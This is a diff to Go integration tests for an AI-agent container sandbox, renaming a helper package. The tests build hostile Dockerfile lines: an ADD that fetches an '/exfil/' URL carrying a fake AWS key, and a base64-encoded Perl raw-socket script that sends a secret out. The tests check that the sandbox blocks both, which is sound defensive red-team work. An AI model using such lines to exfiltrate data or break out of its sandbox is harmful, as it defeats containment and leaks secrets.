@@ -21,8 +21,8 @@ import (
 
 	"github.com/claude-bottle/claude-bottle/internal/itest"
 	"github.com/claude-bottle/claude-bottle/pkg/capfile"
+	"github.com/claude-bottle/claude-bottle/pkg/contract"
 	"github.com/claude-bottle/claude-bottle/pkg/images"
-	"github.com/claude-bottle/claude-bottle/pkg/names"
 )
 
 // TestCapabilityBuildFetchesNothingOutsideTheBottle is a red-team finding
@@ -61,8 +61,8 @@ func TestCapabilityBuildFetchesNothingOutsideTheBottle(t *testing.T) {
 	mu.Unlock()
 
 	url := "http://" + ln.Addr().String() + "/exfil/AKIAREDTEAMLEAK7Q2Z"
-	head := "ARG " + names.AgentBaseArg + "\nFROM ${" + names.AgentBaseArg + "}\n"
-	before, err := dockerClient(t).InspectContainer(names.AgentContainer(slug))
+	head := "ARG " + contract.AgentBaseArg + "\nFROM ${" + contract.AgentBaseArg + "}\n"
+	before, err := dockerClient(t).InspectContainer(contract.AgentContainer(slug))
 	assert.NilError(t, err)
 	for name, tc := range map[string]struct{ line, want string }{
 		"ADD url":            {"ADD " + url + " /tmp/tool.tgz", "line 3: ADD: the engine itself fetches ADD and COPY sources"},
@@ -79,7 +79,7 @@ func TestCapabilityBuildFetchesNothingOutsideTheBottle(t *testing.T) {
 		assert.Assert(t, errors.Is(err, capfile.ErrRefused), "%s: %v", name, err)
 		assert.Assert(t, is.ErrorContains(err, tc.want), name)
 	}
-	after, err := dockerClient(t).InspectContainer(names.AgentContainer(slug))
+	after, err := dockerClient(t).InspectContainer(contract.AgentContainer(slug))
 	assert.NilError(t, err)
 	assert.Equal(t, after.ID, before.ID, "a refused Dockerfile leaves the agent untouched")
 
@@ -112,12 +112,12 @@ func TestCapabilityBuildFetchesNothingOutsideTheBottle(t *testing.T) {
 	assert.Equal(t, img.Config.WorkingDir, "/opt/cbtool")
 	assert.Equal(t, img.Config.User, "1000")
 	assert.Equal(t, img.Config.Labels["org.example.tool"], "cbtool")
-	assert.Equal(t, img.Config.Labels[names.LabelSlug], slug)
+	assert.Equal(t, img.Config.Labels[contract.LabelSlug], slug)
 	assert.Assert(t, is.Contains(strings.Join(img.Config.Env, "\n"), "CB_TOOL_HOME=/opt/cbtool"))
 	out, code := agentExec(t, rig, "cbtool && echo home=$CB_TOOL_HOME && id -un")
 	assert.Equal(t, code, 0, out)
 	assert.Assert(t, is.Contains(out, "home=/opt/cbtool\nagent\n"), out)
-	left, err := dockerClient(t).ListContainers(dc.ListContainersOptions{All: true, Filters: map[string][]string{"name": {names.AgentContainer(slug) + "-capability-build"}}})
+	left, err := dockerClient(t).ListContainers(dc.ListContainersOptions{All: true, Filters: map[string][]string{"name": {contract.AgentContainer(slug) + "-capability-build"}}})
 	assert.NilError(t, err)
 	assert.Equal(t, len(left), 0, "the build container is removed")
 
@@ -160,7 +160,7 @@ func TestCapabilityBuildHasNoRawSocket(t *testing.T) {
 	script, err := os.ReadFile(scriptPath)
 	assert.NilError(t, err)
 	secret := "AKIAREDTEAMRAWLEAK9X"
-	df := "ARG " + names.AgentBaseArg + "\nFROM ${" + names.AgentBaseArg + "}\n" +
+	df := "ARG " + contract.AgentBaseArg + "\nFROM ${" + contract.AgentBaseArg + "}\n" +
 		"RUN echo " + base64.StdEncoding.EncodeToString(script) + " | base64 -d > /tmp/r.pl && " +
 		"perl /tmp/r.pl " + hosts[0] + " " + port + " " + secret + "\n"
 	_, _, err = rig.Eng.RebuildAgent(t.Context(), rig.Plan.Slug, df)
@@ -177,7 +177,7 @@ func TestCapabilityBuildHasNoRawSocket(t *testing.T) {
 	// the host (this is what a build could do before). If this host does
 	// not answer ARP on the bridge the control shows nothing; the
 	// assertions above stand on their own (no packet socket at all).
-	env.Run(t, itest.RunSpec{Name: "rawudp-control", Image: images.AgentTestImage, Network: names.InternalNetwork(rig.Plan.Slug),
+	env.Run(t, itest.RunSpec{Name: "rawudp-control", Image: images.AgentTestImage, Network: contract.InternalNetwork(rig.Plan.Slug),
 		User: "0", CapAdd: []string{"NET_RAW"}, Binds: []string{scriptPath + ":/r.pl:ro"}, Entrypoint: []string{"perl"}, Cmd: []string{"/r.pl", hosts[0], port, "control"}})
 	select {
 	case s := <-got:
